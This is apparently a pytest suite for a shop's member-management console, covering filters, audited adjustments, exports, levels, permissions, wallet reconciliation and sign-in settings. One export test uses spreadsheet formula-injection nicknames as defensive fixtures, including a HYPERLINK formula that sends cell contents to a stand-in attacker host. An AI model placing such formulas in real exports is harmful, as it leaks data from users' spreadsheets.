"""The members console: list with filters, detail, manual adjustments that need a reason
and land in the audit log, the export job, levels and tags, who may see it; the stored-value
reconciliation screen; the sign-in screens that exist only while the module is on."""

from __future__ import annotations

import io

from openpyxl import load_workbook
from rq.job import Job
from sqlalchemy import select, text

from runtime.db import use_shop
from runtime.modules.members.models import AuditEntry
from runtime.modules.points import service as points
from runtime.modules.wallet import service as wallet
from tests.members import paid as hook

JSON = {"Accept": "application/json"}


def console(client, factory, shop, **kw):
    user = factory.merchant(shop, **kw)
    token = factory.console_login(client, user)
    return user, {"X-CSRF-Token": token}


def test_list_filters_and_detail(app, client, factory, shop, session, clock):
    gold = factory.level(shop, "金卡", 1, 100)
    buyer = factory.member(shop, nickname="王小二", phone="13800000002")
    factory.member(shop, nickname="路人")
    use_shop(session, shop.id)
    hook.order_paid(session, buyer.id, 11, 25_000, clock.now())
    session.commit()
    _user, _csrf = console(client, factory, shop)
    base = f"/console/shops/{shop.slug}/members"

    html = client.get(base).get_data(as_text=True)
    assert "王小二" in html and "路人" in html and "¥250.00" in html
    found = client.get(base, query_string={"level_id": gold.id}, headers=JSON).json
    assert [i["nickname"] for i in found["items"]] == ["王小二"]
    assert found["items"][0]["points"] == 250
    by_stage = client.get(base, query_string={"stage": "new"}, headers=JSON).json
    assert [i["nickname"] for i in by_stage["items"]] == ["路人"]
    bad = client.get(base, query_string={"stage": "x"}, headers=JSON)
    assert bad.status_code == 422 and bad.json["errors"][0]["pointer"] == "/stage"

    detail = client.get(f"{base}/{buyer.id}")
    assert detail.status_code == 200
    page = detail.get_data(as_text=True)
    assert "王小二" in page and "#11" in page and "order_paid" in page
    assert client.get(f"{base}/999999").status_code == 404


def test_points_adjustment_needs_a_reason_and_is_audited(app, client, factory, shop, session,
                                                         clock):
    member = factory.member(shop)
    user, csrf = console(client, factory, shop)
    url = f"/console/shops/{shop.slug}/members/{member.id}/points"
    missing = client.post(url, json={"delta": 50, "request_id": "req-00000001"},
                          headers={**csrf, **JSON})
    assert missing.status_code == 422 and missing.json["errors"][0]["pointer"] == "/reason"
    form = client.post(url, data={"delta": "50", "reason": "活动补发",
                                  "request_id": "req-00000002", "csrf_token":
                                  csrf["X-CSRF-Token"]})
    assert form.status_code == 302
    again = client.post(url, data={"delta": "50", "reason": "活动补发",
                                   "request_id": "req-00000002", "csrf_token":
                                   csrf["X-CSRF-Token"]})
    assert again.status_code == 302
    no_csrf = client.post(url, data={"delta": "50", "reason": "x", "request_id": "req-3"})
    assert no_csrf.status_code == 403
    use_shop(session, shop.id)
    assert points.balance_of(session, member.id) == 50
    audit = session.scalars(select(AuditEntry)).one()
    assert (audit.actor_user_id, audit.reason, audit.detail["delta"]) == (user.id, "活动补发", 50)
    session.rollback()  # SQLite: no open transaction while the console request runs

    balance = client.post(f"/console/shops/{shop.slug}/members/{member.id}/balance",
                          data={"principal_delta_yuan": "12.50", "bonus_delta_yuan": "",
                                "reason": "门店充值", "request_id": "req-00000004",
                                "csrf_token": csrf["X-CSRF-Token"]})
    assert balance.status_code == 302
    session.expire_all()
    assert wallet.balance_of(session, member.id) == wallet.WalletBalance(1250, 0)
    session.rollback()
    for typed, code in (("1.005", "precision"), ("inf", "type"), ("nan", "type")):
        wrong = client.post(f"/console/shops/{shop.slug}/members/{member.id}/balance",
                            json={"principal_delta_yuan": typed, "reason": "x",
                                  "request_id": f"req-bad-{code}"}, headers=csrf)
        assert wrong.status_code == 422
        assert [(e["pointer"], e["code"]) for e in wrong.json["errors"]] == [
            ("/principal_delta_yuan", code)]
    taken_back = client.post(f"/console/shops/{shop.slug}/members/{member.id}/balance",
                             json={"principal_delta_yuan": "-2.5", "reason": "退回",
                                   "request_id": "req-00000005"}, headers=csrf)
    assert taken_back.status_code == 200, taken_back.get_data(as_text=True)
    session.expire_all()
    assert wallet.balance_of(session, member.id) == wallet.WalletBalance(1000, 0)
    session.rollback()
    page = client.get(f"/console/shops/{shop.slug}/members/{member.id}").get_data(as_text=True)
    assert "活动补发" in page and "门店充值" in page


def test_export_job_writes_the_filtered_members(app, client, factory, shop, clock, redis_conn):
    factory.member(shop, nickname="甲", phone="13800000011")
    factory.member(shop, nickname="乙")
    _user, csrf = console(client, factory, shop)
    base = f"/console/shops/{shop.slug}/members"
    started = client.post(f"{base}/export?q=13800000011", headers={**csrf, **JSON})
    assert started.status_code == 202
    export_id = started.json["id"]
    job = Job.fetch(f"members-export-{shop.id}-{export_id}", connection=redis_conn)
    with app.app_context():
        assert job.func(*job.args) == f"members-{export_id}.xlsx"
    listing = client.get(f"{base}/exports", headers=JSON).json
    assert listing["items"][0] == {"id": export_id, "status": "done", "rows": 1, "error": ""}
    download = client.get(f"{base}/exports/{export_id}")
    assert download.status_code == 200
    rows = list(load_workbook(io.BytesIO(download.data)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("会员ID", "昵称", "手机号")
    assert [r[1] for r in rows[1:]] == ["甲"]
    assert client.get(f"{base}/exports/{export_id + 1}").status_code == 404


def test_export_never_writes_a_live_formula(app, client, factory, shop, clock, redis_conn):
    """A nickname starting with = + - @ stays text in the workbook (OWASP CSV injection)."""
    nicknames = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd", "-2+3", "@SUM(1)"]
    for n, nickname in enumerate(nicknames):
        factory.member(shop, nickname=nickname, phone=f"1380000002{n}")
    _user, csrf = console(client, factory, shop)
    base = f"/console/shops/{shop.slug}/members"
    export_id = client.post(f"{base}/export", headers={**csrf, **JSON}).json["id"]
    job = Job.fetch(f"members-export-{shop.id}-{export_id}", connection=redis_conn)
    with app.app_context():
        job.func(*job.args)
    sheet = load_workbook(io.BytesIO(client.get(f"{base}/exports/{export_id}").data)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert sorted(cell.value for cell in cells) == sorted("'" + n for n in nicknames)


def test_levels_and_tags_screens(app, client, factory, shop, clock):
    _user, csrf = console(client, factory, shop)
    base = f"/console/shops/{shop.slug}/members"
    added = client.post(f"{base}/levels", data={
        "name": "银卡", "rank": "1", "growth_threshold": "0", "discount_percent": "98",
        "points_multiplier": "1.2", "birthday_gift_points": "20", "free_shipping": "on",
        "csrf_token": csrf["X-CSRF-Token"]})
    assert added.status_code == 302
    levels = client.get(f"{base}/levels", headers=JSON).json["items"]
    assert [(lv["name"], lv["discount_percent"], lv["free_shipping"]) for lv in levels] == \
        [("银卡", 98, True)]
    bad = client.post(f"{base}/levels", json={"name": "金卡", "rank": 1, "growth_threshold": 5},
                      headers={**csrf, **JSON})
    assert bad.status_code == 422 and bad.json["errors"][0]["pointer"] == "/rank"
    tag = client.post(f"{base}/tags", data={"name": "大客户", "rule_type": "spent_at_least",
                                            "min_yuan": "500", "days": "90",
                                            "csrf_token": csrf["X-CSRF-Token"]})
    assert tag.status_code == 302
    listed = client.get(f"{base}/tags", headers=JSON).json["items"]
    assert listed == [{"id": listed[0]["id"], "name": "大客户", "kind": "rule", "members": 0,
                       "rule": {"type": "spent_at_least", "min_fen": 50000, "days": 90}}]
    assert "大客户" in client.get(f"{base}/tags").get_data(as_text=True)
    assert client.get(f"{base}/cards").status_code == 200


def test_staff_need_the_members_area(app, client, factory, shop, clock):
    _user, _csrf = console(client, factory, shop, role="staff", areas=["orders"])
    assert client.get(f"/console/shops/{shop.slug}/members").status_code == 403
    assert client.get(f"/console/shops/{shop.slug}/wallet").status_code == 403
    other = factory.shop(slug="beta")
    assert client.get(f"/console/shops/{other.slug}/members").status_code == 404


def test_reconciliation_screen_reports_a_tampered_balance(app, client, factory, shop, session,
                                                          clock):
    member = factory.member(shop)
    use_shop(session, shop.id)
    wallet.adjust(session, member.id, principal_delta_fen=1000, key="seed")
    session.commit()
    session.execute(text("UPDATE wallet_accounts SET bonus_fen = 77"))
    session.commit()
    _user, csrf = console(client, factory, shop, role="staff", areas=["finance"])
    run = client.post(f"/console/shops/{shop.slug}/wallet/reconcile", headers={**csrf, **JSON})
    assert run.status_code == 200
    assert run.json["reconciliation"]["ok"] is False
    page = client.get(f"/console/shops/{shop.slug}/wallet").get_data(as_text=True)
    assert f"#{member.id}" in page


def test_signin_console_follows_the_module_switch(app, client, factory, shop, clock):
    _user, csrf = console(client, factory, shop)
    base = f"/console/shops/{shop.slug}/signin"
    home = client.get(f"/console/shops/{shop.slug}/members").get_data(as_text=True)
    assert base + "/settings" not in home
    assert client.get(base + "/settings").status_code == 404

    factory.module_on(shop, "signin", {"daily_points": 3})
    home = client.get(f"/console/shops/{shop.slug}/members").get_data(as_text=True)
    assert base + "/settings" in home
    assert client.get(base + "/settings", headers=JSON).json["settings"]["daily_points"] == 3
    saved = client.post(base + "/settings", data={
        "daily_points": "6", "cycle_days": "5", "rewards_day[]": ["5", ""],
        "rewards_points[]": ["20", ""], "makeup_cost_points": "10",
        "makeup_max_per_month": "3", "milestones_days[]": ["10"],
        "milestones_points[]": ["60"], "remind_hour": "21", "reset_on_miss": "on",
        "makeup_enabled": "on", "csrf_token": csrf["X-CSRF-Token"]})
    assert saved.status_code == 302
    settings = client.get(base + "/settings", headers=JSON).json["settings"]
    assert (settings["daily_points"], settings["rewards"], settings["milestones"],
            settings["remind_enabled"]) == (6, [{"day": 5, "points": 20}],
                                            [{"days": 10, "points": 60}], False)
    beyond = client.post(base + "/settings", json={"settings": {**settings, "cycle_days": 4}},
                         headers={**csrf, **JSON})
    assert beyond.status_code == 422
    assert beyond.json["errors"][0]["pointer"] == "/settings/rewards/0/day"
    assert client.get(base + "/records").status_code == 200
    assert client.get(base + "/stats", headers=JSON).json["totals"]["signins"] == 0

    off = client.post(base + "/disable", headers={**csrf, **JSON})
    assert off.json == {"enabled": False}
    assert client.get(base + "/settings").status_code == 404
    on = client.post(base + "/enable", headers={**csrf, **JSON})
    assert on.json == {"enabled": True}
    kept = client.get(base + "/settings", headers=JSON).json["settings"]
    assert kept["daily_points"] == 6 and kept["cycle_days"] == 5


def test_member_points_and_topup_settings_screens(app, client, factory, shop, session, clock):
    _user, csrf = console(client, factory, shop)
    base = f"/console/shops/{shop.slug}"
    page = client.get(f"{base}/members/settings").get_data(as_text=True)
    assert "每消费 1 元得积分" in page and "获得次年年底过期" in page
    form = {"members.token_ttl_days": "15", "members.growth_per_yuan": "2",
            "members.growth_signup": "0", "members.growth_bind_phone": "0",
            "members.growth_complete_profile": "0", "members.active_days": "30",
            "members.dormant_days": "90", "members.h5_login_enabled": "on",
            "points.earn_points_per_yuan": "3", "points.points_signup": "100",
            "points.points_bind_phone": "0", "points.points_complete_profile": "0",
            "points.deduction_points_per_yuan": "100", "points.deduction_max_percent": "30",
            "points.expiry_policy": "days", "points.expiry_days": "365",
            "points.expiry_notice_days": "30", "csrf_token": csrf["X-CSRF-Token"]}
    assert client.post(f"{base}/members/settings", data=form).status_code == 302
    saved = client.get(f"{base}/members/settings", headers=JSON).json["settings"]
    assert (saved["members"]["growth_per_yuan"], saved["points"]["deduction_enabled"],
            saved["points"]["expiry_policy"], saved["points"]["points_signup"]) == \
        (2, False, "days", 100)
    bad = client.post(f"{base}/members/settings", data={**form, "points.expiry_days": "x"},
                      headers=JSON)
    assert bad.status_code == 422 and bad.json["errors"][0]["pointer"] == \
        "/settings/expiry_days"
    out_of_range = client.post(f"{base}/members/settings",
                               json={"points": {"deduction_max_percent": 120}},
                               headers={**csrf, **JSON})
    assert out_of_range.status_code == 422

    # a new shopper now gets the signup points
    login = client.post(f"/api/v1/shops/{shop.slug}/auth/wechat", json={"code": "dev-new"})
    assert login.json["member"]["points"] == 100

    tiers = client.post(f"{base}/wallet/settings", data={
        "topup_enabled": "on", "allow_custom_amount": "", "min_topup_fen": "100",
        "max_topup_fen": "1000000", "tier_pay_yuan[]": ["100", "200.5", ""],
        "tier_bonus_yuan[]": ["10", "30", ""], "csrf_token": csrf["X-CSRF-Token"]})
    assert tiers.status_code == 302
    wallet_settings = client.get(f"{base}/wallet/settings", headers=JSON).json["settings"]
    assert wallet_settings["topup_tiers"] == [{"pay_fen": 10000, "bonus_fen": 1000},
                                              {"pay_fen": 20050, "bonus_fen": 3000}]
    assert wallet_settings["allow_custom_amount"] is False
    dup = client.post(f"{base}/wallet/settings", json={"settings": {"topup_tiers": [
        {"pay_fen": 100, "bonus_fen": 1}, {"pay_fen": 100, "bonus_fen": 2}]}},
        headers={**csrf, **JSON})
    assert dup.status_code == 422
